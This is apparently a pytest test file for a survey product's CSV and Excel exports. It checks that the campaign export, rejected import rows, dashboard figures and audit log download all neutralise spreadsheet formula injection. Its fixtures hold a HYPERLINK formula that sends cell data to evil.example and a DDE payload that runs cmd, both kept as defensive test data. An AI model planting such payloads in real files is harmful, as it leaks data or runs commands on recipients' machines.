"""Every CSV and Excel file the product writes goes through one neutralising writer
(survey.core.tabular): a cell a spreadsheet would run as a formula comes out as text.

One test per path a file leaves by: the writer itself, the campaign export, the rejected
rows of an import, the dashboard's figures, the audit log download (the response export has
its own tests in test_response_export.py)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pandas as pd
import pytest
import sqlalchemy as sa
from click.testing import CliRunner
from openpyxl import load_workbook
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

from survey.cli import main
from survey.core import db as database
from survey.core import tabular
from survey.core.audit import record
from tests.apptest_support import signed_in

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = [EVIL_NAME, "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "\nLF"]


def run(*args):
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def read_csv(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a BOM, so Excel reads the Chinese"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def starts_a_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not tabular.is_plain_number(cell)


# ---------------------------------------------------------------- the writer


def test_every_formula_start_is_neutralised_and_numbers_and_phones_are_kept():
    assert [tabular.neutralise(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    kept = ("正常评论", "a=b", 5, -1, 2.5, None, "-1.5", "+8613312345678", "")
    assert [tabular.neutralise(v) for v in kept] == list(kept)


def test_csv_and_dataframe_csv_have_a_bom_and_no_formula_cell():
    text = tabular.csv_text(["name", "=head"], [[EVIL_NAME, 3], ["ok", "@x"]])
    rows = read_csv(text.encode("utf-8"))
    assert list(rows[0]) == ["name", "'=head"]
    assert rows == [{"name": "'" + EVIL_NAME, "'=head": "3"}, {"name": "ok", "'=head": "'@x"}]
    frame = pd.DataFrame({"item": [EVIL_NAME, "杭州"], "value": [-0.5, 1.0]})
    assert read_csv(tabular.dataframe_csv(frame)) == [
        {"item": "'" + EVIL_NAME, "value": "-0.5"},
        {"item": "杭州", "value": "1.0"},
    ]


def test_xlsx_cells_are_text_not_formulas_and_characters_excel_refuses_are_dropped(tmp_path):
    out = tmp_path / "t.xlsx"
    assert tabular.write_xlsx(out, ["name", "n"], iter([[EVIL_NAME, 1], ["bell\x07 ring", None]]), sheet="rows") == 2
    sheet = load_workbook(out)["rows"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'" + EVIL_NAME and sheet["B2"].value == 1
    assert sheet["A3"].value == "bell ring"


# ---------------------------------------------------------------- the paths


CUSTOMERS = f'external_id,name,phone,region\nE1,"{EVIL_NAME.replace(chr(34), chr(34) * 2)}",13312345678,杭州\n'


@pytest.fixture
def evil_customer(db_url, tmp_path):
    """A customer imported the way an operator would, named with a formula, with a repair
    closed yesterday and a published survey to invite them to."""
    from survey.design.definitions import create_survey
    from survey.design.templates import template
    from survey.models import utcnow

    path = tmp_path / "customers.csv"
    path.write_text(CUSTOMERS, encoding="utf-8")
    assert run("import", "customers", str(path)).exit_code == 0
    yesterday = (utcnow() - timedelta(days=1)).strftime("%Y-%m-%d %H:%M")
    events = tmp_path / "events.csv"
    events.write_text(
        f"ticket_id,customer_id,kind,occurred_at,closed_at\nT1,E1,repair,{yesterday},{yesterday}\n", encoding="utf-8"
    )
    assert run("import", "events", str(events)).exit_code == 0
    with database.session() as db:
        create_survey(db, template("repair-revisit"), publish=True, template="repair-revisit")
    return db_url


def test_campaign_export_neutralises_the_name_and_the_message(evil_customer, tmp_path):
    created = run("campaign", "create", "--survey", "repair-revisit", "--channel", "export")
    assert created.exit_code == 0, created.output
    campaign_id = created.output.split()[1].rstrip(":")
    out = tmp_path / "campaign.csv"
    assert run("campaign", "export", campaign_id, "-o", str(out)).exit_code == 0
    (row,) = read_csv(out.read_bytes())
    assert EVIL_NAME in row["name"] and EVIL_NAME in row["message"]
    assert not any(starts_a_formula(cell) for cell in row.values()), row


def test_rejected_rows_come_back_neutralised(db_url, tmp_path):
    path = tmp_path / "bad.csv"
    path.write_text('external_id,name,phone,region\n=1+2,"@SUM(A1)",12345,-杭州\n', encoding="utf-8")
    rejected = tmp_path / "rejected.csv"
    result = run("import", "customers", str(path), "--rejected-out", str(rejected))
    assert result.exit_code != 0
    (row,) = read_csv(rejected.read_bytes())
    assert row["external_id"] == "'=1+2" and row["name"] == "'@SUM(A1)" and row["region"] == "'-杭州"
    assert not any(starts_a_formula(cell) for cell in row.values()), row


def test_the_dashboard_csv_neutralises_group_names(db_url):
    from survey import demo
    from survey.insight import dashboard as insight
    from survey.insight import metrics, rollup
    from survey.insight import report as report_export
    from survey.overview import local_today

    demo.generate(db_url, seed=4, responses=600)
    with database.get_engine().begin() as conn:
        conn.execute(sa.text("UPDATE response SET region = :evil WHERE region = 'Hangzhou'"), {"evil": EVIL_NAME})
    rollup.rebuild(db_url)
    today = local_today()
    board = insight.dashboard(
        database.get_engine(), insight.Request(metrics.Filters(today - timedelta(days=365), today))
    )
    data = report_export.csv_bytes(board, "en")
    assert data.startswith(b"\xef\xbb\xbf")
    cells = [cell for line in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in line]
    assert "'" + EVIL_NAME in cells
    assert not any(starts_a_formula(cell) for cell in cells)


def test_the_audit_log_download_neutralises_its_cells(db_url, monkeypatch):
    from survey.accounts import auth

    with database.session() as db:
        admin = auth.create_user(db, "root", "admin", "admin-password")
        record(db, admin, "import.customers", DDE, None, {"file": "customers.csv"})
    served: list[bytes] = []
    load = MemoryMediaFileStorage.load_and_get_id

    def keep_what_is_served(self, path_or_data, mimetype, kind, filename=None):
        served.append(path_or_data)
        return load(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep_what_is_served)
    at = signed_in("root", "admin-password", "pages/audit.py")
    assert at.download_button(key="audit_download")
    rows = read_csv(served[-1])
    assert "'" + DDE in {cell for row in rows for cell in row.values()}
    assert not any(starts_a_formula(cell) for row in rows for cell in row.values()), rows


def test_a_campaign_export_to_a_missing_folder_hands_nothing_over(evil_customer, tmp_path):
    created = run("campaign", "create", "--survey", "repair-revisit", "--channel", "export")
    campaign_id = created.output.split()[1].rstrip(":")
    result = run("campaign", "export", campaign_id, "-o", str(tmp_path / "missing" / "campaign.csv"))
    assert result.exit_code != 0 and "does not exist" in result.output and len(result.output.splitlines()) == 1
    out = tmp_path / "campaign.csv"
    assert run("campaign", "export", campaign_id, "-o", str(out)).exit_code == 0
    assert len(read_csv(out.read_bytes())) == 1, "the invitation was still waiting to be handed over"
